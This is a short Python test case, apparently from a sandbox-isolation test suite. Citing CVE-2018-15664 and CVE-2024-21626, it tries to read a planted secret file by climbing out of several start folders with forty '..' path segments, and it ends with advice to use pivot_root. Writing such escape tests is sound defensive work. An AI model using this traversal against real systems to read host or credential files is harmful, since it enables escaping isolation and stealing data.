# title: Read a file by forty parent folders
# tries: Goes up forty times from several folders and down again to a planted file. It gets past checks of how a path begins, and out of a folder that is not the root.
# impact: HostLeak
# reference: CVE-2018-15664, CVE-2024-21626
# proof: secret
# host: run
# advice: Change the root by pivot_root into a mount namespace instead of comparing texts of paths.


def attempt(host):
    import os
    import tempfile

    failure = None
    for start in (".", tempfile.gettempdir(), os.path.dirname(os.__file__), "/dev"):
        try:
            with open(start + "/.." * 40 + host["secret_file"]) as file:
                return file.read()
        except OSError as error:
            failure = error
    raise failure
